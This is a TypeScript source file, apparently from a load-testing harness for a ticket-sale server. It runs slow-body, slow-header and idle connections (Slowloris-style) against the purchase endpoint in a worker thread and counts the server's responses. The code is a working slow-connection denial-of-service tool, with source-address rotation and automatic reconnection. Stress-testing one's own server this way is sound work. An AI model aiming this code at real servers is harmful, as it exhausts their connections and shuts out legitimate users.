import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { parentPort, Worker, workerData } from 'node:worker_threads';
import { z } from 'zod';
import { addressOf } from './steady-sale.ts';

/**
 * Connections that send slowly or nothing, in a thread of their own: what they keep busy must be the server and not the
 * client that measures how long buyers wait.
 */

/** How often each of them sends one byte more. */
const DRIP_MS = 1_000;
/** In so many parts, since a thousand people do not send in the same moment. */
const PARTS = 100;

const HEAD = ['POST /api/tickets/purchase HTTP/1.1', 'Host: shop', 'Content-Type: application/json'].join('\r\n');

export const KINDS = ['slow body', 'slow header', 'idle'] as const;
export type Kind = (typeof KINDS)[number];
/** `authorizations` are of people who are signed in: they get as far as the body, others are refused before it. */
type Attack = { origin: string; kind: Kind; attackers: number; authorizations: string[] };
const Answers = z.record(z.string(), z.number());

/** Keeps its connections open: whoever is cut off comes again. */
async function attack({ origin, kind, attackers, authorizations }: Attack) {
  const { hostname, port } = new URL(origin);
  const sockets: (Socket | undefined)[] = Array.from({ length: attackers });
  const answers: z.infer<typeof Answers> = {};
  const opening = (index: number) => {
    const who = authorizations[index % authorizations.length];
    if (kind === 'slow body') return `${HEAD}\r\nAuthorization: ${who}\r\nContent-Length: 500\r\n\r\n{`;
    return kind === 'slow header' ? `${HEAD}\r\nX-Slow: ` : '';
  };
  const more = { 'slow body': ' ', 'slow header': 'x', idle: '' }[kind];

  const come = (index: number) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(20, index % 250) });
    sockets[index] = socket;
    socket.on('error', () => undefined);
    socket.once('connect', () => void socket.write(opening(index)));
    socket.on('data', (data) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1];
      if (status) answers[status] = (answers[status] ?? 0) + 1;
    });
    socket.once('close', () => setTimeout(come, 200, index));
  };
  for (let index = 0; index < attackers; index += 1) {
    come(index);
    if (index % 100 === 99) await sleep(20);
  }
  let turn = 0;
  setInterval(() => {
    turn = (turn + 1) % PARTS;
    if (!more) return;
    for (let index = turn; index < sockets.length; index += PARTS)
      if (sockets[index]?.writable) sockets[index]?.write(more);
  }, DRIP_MS / PARTS);
  await sleep(500);
  parentPort?.postMessage('all have come');
  // Its connections end with the thread.
  parentPort?.once('message', () => parentPort?.postMessage(answers));
}

if (parentPort) await attack(workerData);

const heard = (thread: Worker) =>
  new Promise<unknown>((resolve, reject) => {
    thread.once('message', resolve).once('error', reject);
  });

/** Begins once all have come; `stop` says what they were told, by status. */
export async function beginAttack(what: Attack): Promise<{ stop: () => Promise<z.infer<typeof Answers>> }> {
  const thread = new Worker(new URL(import.meta.url), { workerData: what });
  await heard(thread);
  return {
    async stop() {
      const answers = heard(thread);
      thread.postMessage('stop');
      const told = Answers.parse(await answers);
      await thread.terminate();
      return told;
    },
  };
}
